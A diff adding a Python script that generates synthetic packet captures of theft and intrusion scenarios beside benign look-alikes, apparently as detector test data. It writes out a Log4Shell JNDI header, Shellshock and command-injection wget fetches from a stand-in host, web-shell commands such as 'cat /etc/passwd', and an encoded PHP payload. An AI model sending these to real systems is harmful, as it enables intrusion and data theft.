@@ -1,0 +1,163 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: MIT
+"""theft.py SCENARIO OUT.pcap | theft.py list: thefts in the clear and what only looks like them, as a capture at the gateway's
+inside. Names, addresses and contents are invented; the same bytes in every run."""
+import base64
+import struct
+import sys
+
+from talk import MS, T0, Tcp, Wire, lookup, noise
+
+CLIENT, OTHER, SERVER = "10.20.1.10", "10.20.1.11", "10.20.2.20"
+AWAY, AWAY2, AWAY3 = "203.0.113.20", "203.0.113.21", "203.0.113.22"
+SECOND = 10**9
+
+
+def head(first, *fields, body=b""):
+    lines = [first, *fields]
+    if body:
+        lines.append(f"Content-Length: {len(body)}")
+    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body
+
+
+OK = head("HTTP/1.1 200 OK", "Content-Type: text/html", body=b"ok")
+
+
+def exchange(wire, time, client, server, request, reply=OK, port=40001):
+    return Tcp(wire, time, (client, port), server).say(request).answer(reply).close()
+
+
+def credential_post(wire):
+    """Reports of 300 bytes, once a minute, by what calls itself a browser; the first lists what the machine is."""
+    time = lookup(wire, T0, CLIENT, "panel.example.net", AWAY)
+    for i in range(4):
+        body = noise(300, seed=i + 1)
+        exchange(wire, time, CLIENT, (AWAY, 80), head(
+            "POST /in/gate.php HTTP/1.0", "User-Agent: Mozilla/5.0 (Windows NT 10.0)", "Host: panel.example.net", "Accept: */*",
+            "Content-Type: application/octet-stream", "Connection: close", body=body), port=40001 + i)
+        time += 60 * SECOND
+
+
+BROWSER = ("User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", "Accept: text/html",
+           "Accept-Language: en-GB,en;q=0.5", "Accept-Encoding: gzip, deflate")
+
+
+def benign_posts(wire):
+    """What an office posts: a login form, telemetry in JSON, an OCSP question, a tool's upload, a compressed inventory."""
+    time = lookup(wire, T0, CLIENT, "shop.example.net", AWAY)
+    time = exchange(wire, time, CLIENT, (AWAY, 80), head(
+        "POST /login.php HTTP/1.1", "Host: shop.example.net", *BROWSER, "Referer: http://shop.example.net/", "Cookie: a=b",
+        "Content-Type: application/x-www-form-urlencoded", body=b"user=jo&pass=secret&os=&go=1"))
+    time = lookup(wire, time + SECOND, CLIENT, "stats.example.org", AWAY2)
+    for i in range(6):
+        time = exchange(wire, time + 60 * SECOND, CLIENT, (AWAY2, 80), head(
+            "POST /v1/t HTTP/1.1", "Host: stats.example.org", "User-Agent: Editor/4.1", "Content-Type: application/json",
+            body=b'{"os":"linux","user":"7f","hwid":"12","events":[1,2,3]}'), port=41000 + i)
+    time = lookup(wire, time, CLIENT, "ocsp.example.com", AWAY3)
+    time = exchange(wire, time, CLIENT, (AWAY3, 80), head(
+        "POST / HTTP/1.1", "Host: ocsp.example.com", *BROWSER, "Content-Type: application/ocsp-request",
+        body=b"\x30\x51\x30\x4f" + noise(79)), port=42000)
+    time = lookup(wire, time, OTHER, "builds.example.org", AWAY2)
+    time = exchange(wire, time, OTHER, (AWAY2, 80), head(
+        "POST /upload HTTP/1.1", "Host: builds.example.org", "User-Agent: curl/7.88.1", "Accept: */*",
+        "Content-Type: application/octet-stream", body=noise(900)), port=43000)
+    exchange(wire, time, OTHER, (AWAY2, 80), head(
+        "POST /inventory HTTP/1.1", "Host: builds.example.org", "User-Agent: Inventory/2.6", "Content-Encoding: gzip",
+        "Content-Type: application/octet-stream", body=b"\x1f\x8b\x08\x00" + noise(4000)), port=43001)
+
+
+def web_exploit(wire):
+    """A look-up in a header; the server fetches by LDAP from the address that it names."""
+    exchange(wire, T0, AWAY, (SERVER, 8080), head(
+        "GET /app HTTP/1.1", "Host: app.corp.example.test", "User-Agent: Mozilla/5.0",
+        "X-Api-Version: ${${lower:j}ndi:${lower:ldap}://203.0.113.21:1389/o=run}"), port=50001)
+    Tcp(wire, T0 + 30 * MS, (SERVER, 45000), (AWAY2, 1389)).say(b"0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00").answer(
+        b"0\x0c\x02\x01\x01a\x07\n\x01\x00\x04\x00\x04\x00").close()
+
+
+def benign_web_scan(wire):
+    """The same from a scanner, to a server that does not care: attempts of three kinds, no call."""
+    time = T0
+    for i, field in enumerate(("User-Agent: ${jndi:ldap://203.0.113.21:1389/a}", "User-Agent: () { :; }; /usr/bin/wget http://203.0.113.21/x",
+                               "Referer: ${jndi:dns://probe.example.net/a}")):
+        time = exchange(wire, time, AWAY, (SERVER, 80), head("GET / HTTP/1.1", "Host: www.corp.example.test", field), port=50001 + i)
+    exchange(wire, time, AWAY, (SERVER, 80), head(
+        "GET /cgi?ip=1;wget+http://203.0.113.21/x.sh HTTP/1.1", "Host: www.corp.example.test"), port=50009)
+
+
+def web_shell(wire):
+    """One client works through a script: commands as fields, output as answers, then an upload."""
+    time, port = T0, 50001
+    for command, output in (("whoami", "www-data\n"), ("uname+-a", "Linux web1 6.1.0 GNU/Linux\n"),
+                            ("id%3Bls+-la+..", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\ndrwxr-xr-x 2 root root 4096 .\n"),
+                            ("cat+/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/bin/sh\n")):
+        reply = head("HTTP/1.1 200 OK", "Content-Type: text/html", body=b"<pre>" + output.encode() + b"</pre>")
+        time = exchange(wire, time + 9 * SECOND, AWAY, (SERVER, 80), head(
+            "POST /upload/img_7.php HTTP/1.1", "Host: www.corp.example.test", *BROWSER,
+            "Content-Type: application/x-www-form-urlencoded", body=f"k=7&cmd={command}".encode()), reply, port)
+        port += 1
+    code = base64.b64encode(b'@ini_set("display_errors","0");@set_time_limit(0);echo("->|");echo(getcwd());')
+    exchange(wire, time + 9 * SECOND, AWAY, (SERVER, 80), head(
+        "POST /upload/img_7.php HTTP/1.1", "Host: www.corp.example.test", *BROWSER,
+        "Content-Type: application/x-www-form-urlencoded", body=b"k=8&z0=" + code.replace(b"+", b"%2B").replace(b"=", b"%3D")), OK, port)
+
+
+def program():
+    """The begin of a program for Windows: enough of one for its head to make sense."""
+    dos = bytearray(128)
+    dos[:8] = b"MZ\x90\0\3\0\0\0"
+    struct.pack_into("<I", dos, 0x3C, 128)
+    return bytes(dos) + b"PE\0\0d\x86" + noise(3000)
+
+
+def executable_download(wire):
+    """A program under the name of a picture, from an address that nobody asked for by name."""
+    exchange(wire, T0, CLIENT, (AWAY, 80), head("GET /img/logo.jpg HTTP/1.1", "Host: 203.0.113.20", "User-Agent: Mozilla/4.0"),
+             head("HTTP/1.1 200 OK", "Content-Type: image/jpeg", body=program()))
+
+
+def locked_zip(length):
+    member = b"finance/2026.xlsx"
+    return b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 1, 8, 0, 0, 0, length, length, len(member), 0) + member + noise(length)
+
+
+def http_archive_put(wire):
+    """An encrypted zip of 20 kB stored by PUT on a bare address; below the floor of upload_volume."""
+    exchange(wire, T0, CLIENT, (AWAY, 8000), head(
+        "PUT /d/a1.zip HTTP/1.1", "Host: 203.0.113.20:8000", "User-Agent: python-requests/2.28.1", "Accept-Encoding: gzip, deflate",
+        "Accept: */*", body=locked_zip(20000)))
+
+
+def benign_uploads(wire):
+    """A photograph by browser, a plain archive of logs by a product that names itself, a document put on an inside server."""
+    time = lookup(wire, T0, CLIENT, "photos.example.net", AWAY)
+    form = (b'--b\r\nContent-Disposition: form-data; name="f"; filename="p.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0' +
+            noise(4000) + b"\r\n--b--\r\n")
+    time = exchange(wire, time, CLIENT, (AWAY, 80), head(
+        "POST /up HTTP/1.1", "Host: photos.example.net", *BROWSER, "Referer: http://photos.example.net/",
+        "Content-Type: multipart/form-data; boundary=b", body=form))
+    time = lookup(wire, time, CLIENT, "support.example.org", AWAY2)
+    time = exchange(wire, time, CLIENT, (AWAY2, 80), head(
+        "POST /logs HTTP/1.1", "Host: support.example.org", "User-Agent: Printer/9.1", "Content-Type: application/zip",
+        body=b"PK\x03\x04\x14\x00\x00\x00" + bytes(18) + b"\x05\x00\x00\x00a.log" + noise(4000)), port=41000)
+    exchange(wire, time, CLIENT, (SERVER, 80), head(
+        "PUT /dav/store.kdbx HTTP/1.1", "Host: files.corp.example.test", "User-Agent: davfs2/1.6", body=b"\x03\xd9\xa2\x9a" + noise(3000)), port=42000)
+
+
+SCENARIOS = {f.__name__: f for f in (
+    credential_post, benign_posts, web_exploit, benign_web_scan, web_shell, executable_download, http_archive_put, benign_uploads)}
+
+
+def main():
+    if len(sys.argv) == 2 and sys.argv[1] == "list":
+        print("\n".join(SCENARIOS))
+        return
+    if len(sys.argv) != 3 or sys.argv[1] not in SCENARIOS:
+        raise SystemExit(__doc__)
+    wire = Wire()
+    SCENARIOS[sys.argv[1]](wire)
+    wire.write(sys.argv[2])
+
+
+if __name__ == "__main__":
+    main()
